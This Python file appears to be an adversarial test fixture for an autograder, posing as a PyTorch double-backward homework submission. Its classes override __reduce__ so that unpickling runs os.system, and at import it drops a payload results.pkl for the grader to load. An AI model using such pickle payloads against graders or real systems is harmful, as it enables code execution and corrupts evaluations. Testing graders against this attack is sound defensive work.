# threat: objects whose __reduce__ runs a command when unpickled (malicious pickle)
# expect: full=double-backward attacked=second-derivative-cost/values,second-derivative-cost/graph-size,sin-derivative-plot/values
"""Returns payloads that would run a command in any process that unpickles them."""

import os
import pickle

import numpy as np
import torch

MARKER = "/tmp/adversarial-marker"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


class PayloadTensor(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return (os.system, (f"touch {MARKER}",))


# A ready-made payload next to the submission, for a grader that loads whatever .pkl it finds.
with open("results.pkl", "wb") as payload_file:
    pickle.dump(Payload(), payload_file)


def second_derivative(f, x):
    return Payload()


def graph_size(t):
    return np.array([Payload()], dtype=object)


def sin_and_grad(x):
    return torch.zeros_like(x).as_subclass(PayloadTensor), [Payload()]


# Untouched: a correct answer to the double-backward exercise.


def backward_twice(x):
    x = x.detach().clone().requires_grad_(True)
    y = 2 * torch.dot(x, x)
    y.backward()
    y.backward()


def backward_twice_retained(x):
    x = x.detach().clone().requires_grad_(True)
    y = 2 * torch.dot(x, x)
    y.backward(retain_graph=True)
    y.backward()
    return x.grad


def backward_twice_zeroed(x):
    x = x.detach().clone().requires_grad_(True)
    y = 2 * torch.dot(x, x)
    y.backward(retain_graph=True)
    x.grad.zero_()
    y.backward()
    return x.grad
